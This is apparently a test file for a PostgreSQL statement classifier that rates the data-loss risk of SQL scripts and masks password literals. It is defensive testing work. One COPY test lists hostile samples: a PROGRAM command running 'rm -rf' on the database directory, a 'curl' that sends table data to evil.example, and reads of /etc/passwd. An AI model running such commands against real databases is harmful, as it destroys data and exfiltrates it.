import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import { secrets } from "../../src/core/redact.js";
import { createClassifier, type Classifier } from "../../src/engines/postgres/classify/index.js";

let classifier: Classifier;
before(async () => {
  classifier = await createClassifier();
});
const classifySql = (sql: string) => classifier.classify(sql);
const transactionControl = (sql: string) => classifier.transactionControl(sql);

describe("classifySql: what earlier statements change (security review)", () => {
  const losses = (sql: string) => classifySql(sql).map((o) => [o.kind, o.dataLoss]);

  it("DML after CREATE TRIGGER / RULE / event trigger / CREATE OR REPLACE FUNCTION is unknown", () => {
    const trigger = classifySql(
      "CREATE FUNCTION zap() RETURNS trigger AS $$ BEGIN DELETE FROM carts; RETURN NEW; END $$ LANGUAGE plpgsql; " +
        "CREATE TRIGGER z BEFORE INSERT ON q FOR EACH ROW EXECUTE FUNCTION zap(); INSERT INTO q VALUES (1)",
    );
    assert.deepEqual(
      trigger.map((o) => [o.kind, o.dataLoss]),
      [
        ["create-function", "none"],
        ["create-trigger", "none"],
        ["insert", "unknown"],
      ],
    );
    assert.match(trigger[1]?.reason ?? "", /changes what later statements do/);
    assert.match(trigger[2]?.reason ?? "", /CREATE TRIGGER/);
    assert.deepEqual(
      losses("CREATE RULE r AS ON INSERT TO q DO ALSO DELETE FROM carts; INSERT INTO q VALUES (1)"),
      [
        ["create-rule", "none"],
        ["insert", "unknown"],
      ],
    );
    for (const later of [
      "UPDATE q SET a = 1 WHERE id = 2",
      "DELETE FROM q WHERE id = 2",
      "TRUNCATE q",
      "COPY q FROM STDIN",
      "MERGE INTO q USING s ON q.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (1)",
    ]) {
      const ops = classifySql(`CREATE RULE r AS ON UPDATE TO q DO INSTEAD NOTHING; ${later}`);
      assert.equal(ops[ops.length - 1]?.dataLoss, "unknown", later);
    }
    assert.equal(
      classifySql(
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f(); INSERT INTO q VALUES (1)",
      ).at(-1)?.dataLoss,
      "unknown",
    );
    assert.equal(
      classifySql(
        "CREATE OR REPLACE FUNCTION audit() RETURNS trigger AS $$ BEGIN RETURN NEW; END $$ LANGUAGE plpgsql; INSERT INTO q VALUES (1)",
      ).at(-1)?.dataLoss,
      "unknown",
    );
    assert.equal(
      classifySql("ALTER TABLE q ENABLE TRIGGER ALL; INSERT INTO q VALUES (1)").at(-1)?.dataLoss,
      "unknown",
    );
    // Without any of those, an insert is still harmless.
    assert.deepEqual(losses("INSERT INTO q VALUES (1)"), [["insert", "none"]]);
  });

  it("an INSERT whose source has other operations still keeps its own insert operation", () => {
    const ops = classifySql("WITH x AS (DELETE FROM a RETURNING *) INSERT INTO q SELECT * FROM x");
    assert.ok(ops.some((o) => o.kind === "insert" && o.target?.name === "q"));
  });

  it("COPY with a program or a server file is unknown; COPY FROM STDIN / TO STDOUT are not", () => {
    for (const sql of [
      "COPY carts FROM PROGRAM 'rm -rf /var/lib/postgresql'",
      "COPY carts TO PROGRAM 'curl -d @- evil.example'",
      "COPY carts TO '/var/lib/postgresql/data/postgresql.auto.conf'",
      "COPY carts FROM '/etc/passwd'",
      "COPY (SELECT 1) TO '/tmp/x'",
    ]) {
      const [first] = classifySql(sql);
      assert.equal(first?.dataLoss, "unknown", sql);
      assert.match(first?.reason ?? "", /shell command|file on the database server/, sql);
    }
    assert.deepEqual(losses("COPY carts FROM STDIN"), [["copy-from", "none"]]);
    assert.equal(classifySql("COPY carts FROM STDIN")[0]?.target?.name, "carts");
    assert.deepEqual(losses("COPY carts TO STDOUT"), [["read", "none"]]);
    assert.deepEqual(losses("COPY (SELECT * FROM carts) TO STDOUT WITH CSV"), [["read", "none"]]);
  });

  it("COMMIT, ROLLBACK, BEGIN, END, PREPARE TRANSACTION are unknown; savepoints are fine", () => {
    for (const sql of [
      "COMMIT",
      "END",
      "ROLLBACK",
      "ABORT",
      "BEGIN",
      "START TRANSACTION",
      "PREPARE TRANSACTION 'x'",
      "COMMIT PREPARED 'x'",
    ]) {
      const [first] = classifySql(sql);
      assert.equal(first?.dataLoss, "unknown", sql);
      assert.match(first?.reason ?? "", /controls transactions itself/, sql);
    }
    assert.deepEqual(
      losses("TRUNCATE carts; COMMIT; SELECT 1/0").map(([, loss]) => loss),
      ["destructive", "unknown", "none"],
    );
    assert.deepEqual(losses("SAVEPOINT a; RELEASE SAVEPOINT a; SAVEPOINT b; ROLLBACK TO SAVEPOINT b"), [
      ["savepoint", "none"],
      ["savepoint", "none"],
      ["savepoint", "none"],
      ["savepoint", "none"],
    ]);
    assert.deepEqual(transactionControl("SELECT 1; COMMIT; begin; SAVEPOINT a; ROLLBACK TO a"), [
      "COMMIT",
      "BEGIN",
    ]);
    assert.deepEqual(transactionControl("SAVEPOINT a; RELEASE a"), []);
  });

  it("statements after SET search_path / role / session authorization are unknown", () => {
    for (const set of [
      "SET search_path = other, public",
      "SET LOCAL search_path TO other",
      "set SEARCH_PATH = other",
      "RESET search_path",
      "RESET ALL",
      "SET ROLE other_owner",
      "SET SESSION AUTHORIZATION other_owner",
      "SELECT set_config('search_path', 'other', false)",
    ]) {
      const ops = classifySql(`${set}; TRUNCATE carts; SELECT 1`);
      const later = ops.filter((o) => o.statementIndex > 0);
      assert.ok(
        later.length >= 2 && later.every((o) => o.dataLoss === "unknown"),
        `${set}: ${JSON.stringify(later)}`,
      );
    }
    assert.equal(classifySql("SET statement_timeout = 0; TRUNCATE carts")[1]?.dataLoss, "destructive");
  });

  it("a statement whose target was created, renamed or dropped earlier in the script is unknown", () => {
    for (const sql of [
      "ALTER TABLE carts RENAME TO x; TRUNCATE x",
      "ALTER TABLE carts RENAME TO x; ALTER TABLE y RENAME TO carts; TRUNCATE carts",
      "CREATE TABLE other.carts (id int); DELETE FROM carts",
      "ALTER TABLE other.carts SET SCHEMA public; TRUNCATE public.carts",
      "ALTER SCHEMA public RENAME TO old; ALTER SCHEMA other RENAME TO public; TRUNCATE carts",
      "CREATE SCHEMA app; UPDATE app.carts SET a = 1",
      "CREATE VIEW carts AS SELECT 1; UPDATE carts SET a = 1",
    ]) {
      const last = classifySql(sql).at(-1);
      assert.equal(last?.dataLoss, "unknown", sql);
      assert.match(last?.reason ?? "", /its target is changed earlier in this script/, sql);
    }
    assert.equal(
      classifySql("ALTER TABLE carts RENAME TO x; TRUNCATE orders").at(-1)?.dataLoss,
      "destructive",
    );
  });

  it("password literals are masked in the statement text and registered as secrets; the digest is unchanged", () => {
    const cases: [string, string][] = [
      ["ALTER ROLE x PASSWORD 'hunter2secret'", "hunter2secret"],
      ["CREATE USER app WITH ENCRYPTED PASSWORD 'it''s-secret' VALID UNTIL 'infinity'", "it's-secret"],
      ["CREATE ROLE app LOGIN PASSWORD E'back\\'slash-pw'", "back'slash-pw"],
      ["ALTER USER app PASSWORD $pw$dollar-secret$pw$", "dollar-secret"],
      [
        "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app', password 'mapping-secret')",
        "mapping-secret",
      ],
      [
        "ALTER USER MAPPING FOR app SERVER remote OPTIONS (SET password 'mapping-secret2')",
        "mapping-secret2",
      ],
      ["SELECT dblink_connect('host=db user=app password=dblink-secret dbname=x')", "dblink-secret"],
    ];
    for (const [sql, secret] of cases) {
      const ops = classifySql(`SELECT 1; ${sql}; SELECT 2`);
      const op = ops.find((o) => o.statementIndex === 1);
      assert.ok(op, sql);
      assert.ok(!op.statement.includes(secret), `${sql} → ${op.statement}`);
      assert.match(op.statement, /\*\*\*\*\*/, sql);
      assert.equal(secrets.redact(`leaked: ${secret}`), "leaked: *****", sql);
      assert.equal(ops.find((o) => o.statementIndex === 2)?.statement, "SELECT 2");
    }
    const [a] = classifySql("ALTER ROLE x PASSWORD 'first-secret'");
    const [b] = classifySql("ALTER ROLE x PASSWORD 'other-secret'");
    assert.equal(a?.statement, b?.statement);
    assert.notEqual(a?.normalized, b?.normalized, "the identity covers the real statement");
    assert.doesNotMatch(
      classifySql("ALTER ROLE x PASSWORDX 'unparsed-secret'")[0]?.statement ?? "",
      /unparsed-secret/,
    );
  });
});

describe("classifySql: tables the script creates itself", () => {
  before(async () => {
    classifier = await createClassifier();
  });

  it("statements on a table created earlier in the script lose nothing that existed before", () => {
    const ops = classifySql(
      "CREATE TABLE t (id int); INSERT INTO t VALUES (1); ALTER TABLE t DROP COLUMN id; TRUNCATE t",
    );
    assert.deepEqual(
      ops.map((o) => [o.kind, o.dataLoss]),
      [
        ["create", "none"],
        ["insert", "none"],
        ["alter-table-drop-column", "none"],
        ["truncate", "none"],
      ],
    );
    assert.equal(ops[3]?.createdEarlier, true);
  });

  it("the new table shadows or replaces the old one: the statements on it lose nothing more", () => {
    // The temporary table comes first in the search path; the DROP of the old table is itself destructive.
    assert.equal(classifySql("CREATE TEMP TABLE carts (id int); DROP TABLE carts")[1]?.dataLoss, "none");
    const replaced = classifySql(
      "DROP TABLE carts; CREATE TABLE carts (id int); ALTER TABLE carts DROP COLUMN id",
    );
    assert.deepEqual(
      replaced.map((o) => o.dataLoss),
      ["destructive", "none", "none"],
    );
    // Created in another schema: an unqualified name may reach either table.
    assert.equal(classifySql("CREATE TABLE other.carts (id int); DELETE FROM carts")[1]?.dataLoss, "unknown");
  });

  it("but not with IF NOT EXISTS (an existing table keeps its rows), nor after a rename", () => {
    assert.equal(classifySql("CREATE TABLE IF NOT EXISTS t (id int); TRUNCATE t")[1]?.dataLoss, "unknown");
    assert.equal(
      classifySql("CREATE TABLE t (id int); ALTER TABLE t RENAME TO u; TRUNCATE u")[2]?.dataLoss,
      "unknown",
    );
    assert.equal(classifySql("ALTER TABLE carts RENAME TO x; TRUNCATE x")[1]?.dataLoss, "unknown");
  });
});
